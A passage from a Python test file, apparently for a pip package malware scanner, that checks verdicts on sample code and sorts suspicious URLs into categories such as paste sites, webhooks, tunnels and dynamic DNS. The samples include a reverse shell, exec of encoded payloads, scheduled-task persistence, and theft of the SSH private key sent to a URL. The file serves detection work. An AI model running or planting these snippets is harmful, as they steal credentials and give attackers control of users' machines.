        "__import__('builtins').exec(__import__('zlib').decompress("
        f"__import__('base64').b64decode({base64.b64encode(ZLIB).decode()!r})))\n",
        "malicious",
    ),
    "popen-on-socket": (
        "import socket, subprocess\ns = socket.create_connection(('example.invalid', 4444))\n"
        "subprocess.Popen(['/bin/sh', '-i'], stdin=s.fileno(), stdout=s.fileno())\n",
        "malicious",
    ),
    "schtasks": (
        "import subprocess, sys\nsubprocess.run(['schtasks', '/create', '/tn', 'u', '/tr', sys.executable])\n",
        "malicious",
    ),
    "thread-beacon": (
        "import threading, platform, requests\ndef b():\n"
        f"    requests.get({URL!r}, params={{'h': platform.node()}})\nthreading.Thread(target=b).start()\n",
        "suspicious",
    ),
    "xor-comprehension": (
        f"k = 7\ndata = bytes([b ^ k for b in b'{XOR_SRC}'])\nexec(data)\n",
        "malicious",
    ),
    "method-exfil": (
        "import os, requests\nclass C:\n    def go(self):\n"
        "        data = open(os.path.join(os.path.expanduser('~'), '.ssh', 'id_rsa')).read()\n"
        f"        requests.post({URL!r}, json={{'k': data}})\n",
        "malicious",
    ),
    "benign-comprehensions": (
        "NAMES = [n.upper() for n in ('a', 'b')]\nCODES = bytes([c + 1 for c in b'abc'])\n",
        "clean",
    ),
}


@pytest.mark.parametrize("name", list(MORE))
def test_more_techniques(name: str) -> None:
    from pipwarden.scan import verdict

    src, expected = MORE[name]
    found = analyse_member(FileContext("pkg/__init__.py", "wheel", True), src.encode())
    assert verdict(found) == expected, [(f.rule, f.severity.label) for f in found]


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("https://pastebin.com/raw/PIPWARDENTEST", "paste-site"),
        ("https://paste.ee/r/abc", "paste-site"),
        ("https://hastebin.com/raw/x", "paste-site"),
        ("https://ghostbin.co/paste/x", "paste-site"),
        ("https://rentry.co/x/raw", "paste-site"),
        ("https://dpaste.org/x/raw", "paste-site"),
        ("https://transfer.sh/x/payload", "paste-site"),
        ("https://file.io/x", "paste-site"),
        ("https://anonfiles.com/x", "paste-site"),
        ("https://bashupload.com/x", "paste-site"),
        ("https://0x0.st/x.bin", "paste-site"),
        ("termbin.com 9999", "paste-site"),
        ("https://paste.c-net.org/x", "paste-site"),
        ("https://pastes.io/raw/x", "paste-site"),
        ("https://privatebin.example.invalid/?x", "paste-site"),
        (
            "https://cdn.discordapp.example.invalid/attachments/1098765432/1198765432/a.exe",
            "paste-site",
        ),
        ("https://DISCORD.com/api/webhooks/123/abc", "webhook"),
        ("https://discordapp.com/api/webhooks/123/abc", "webhook"),
        ("https://api.telegram.org/bot123:AA/sendMessage", "webhook"),
        ("https://hooks.slack.com/services/T000/B000/x", "webhook"),
        ("https://relay.example.invalid/api/webhooks/1234567/abcdefgh12", "webhook"),
        ("https://relay.example.invalid/bot12345:abc/sendDocument", "webhook"),
        ("https://relay.example.invalid/services/TABCDEFG/BABCDEFG/x", "webhook"),
        ("https://abcd.ngrok.io/x", "tunnel"),
        ("https://abcd.ngrok-free.app/x", "tunnel"),
        ("https://x.trycloudflare.com", "tunnel"),
        ("ssh -R 80:localhost:80 serveo.net", "tunnel"),
        ("https://x.localhost.run", "tunnel"),
        ("https://webhook.site/uuid", "tunnel"),
        ("https://x.requestbin.net", "tunnel"),
        ("https://x.m.pipedream.net", "tunnel"),
        ("x.oast.fun", "tunnel"),
        ("x.interact.sh", "tunnel"),
        ("x.burpcollaborator.net", "tunnel"),
        ("http://canarytokens.com/x", "tunnel"),
        ("http://abc.onion/x", "tunnel"),
        ("https://x.interactsh.example.invalid", "tunnel"),
        ("https://x.localtunnel.me", "tunnel"),
        ("c2.duckdns.org", "dynamic-dns"),
        ("c2.no-ip.biz", "dynamic-dns"),
        ("c2.ddns.net", "dynamic-dns"),
        ("c2.hopto.org", "dynamic-dns"),
        ("c2.zapto.org", "dynamic-dns"),
        ("c2.sytes.net", "dynamic-dns"),
        ("c2.dynu.net", "dynamic-dns"),
        ("c2.freedns.afraid.org", "dynamic-dns"),
        ("c2.serveftp.com", "dynamic-dns"),
        ("https://c2.myftp.example.invalid", "dynamic-dns"),
        ("https://c2.bounceme.example.invalid", "dynamic-dns"),
        ("https://c2.servebeer.example.invalid", "dynamic-dns"),
        ("https://c2.dynv6.example.invalid", "dynamic-dns"),
        ("https://c2.dyndns.example.invalid", "dynamic-dns"),
        ("https://c2.freeddns.example.invalid", "dynamic-dns"),
        ("https://c2.noip.example.invalid", "dynamic-dns"),
        ("http://203.0.113.7:8080/x", "raw-ip"),
    ],
)
def test_endpoint_table(text: str, rule: str) -> None:
    """Every service of the endpoint table, also through the literal pre-check."""
    hit = P.endpoint(text)
    assert hit is not None and hit[0] == f"suspicious-endpoint.{rule}", (text, hit)


def test_endpoint_table_ignores_ordinary_hosts() -> None:
    for text in ("https://pypi.org/simple/", "https://github.com/psf/requests", "a.b.c", "x://y"):
        assert P.endpoint(text) is None
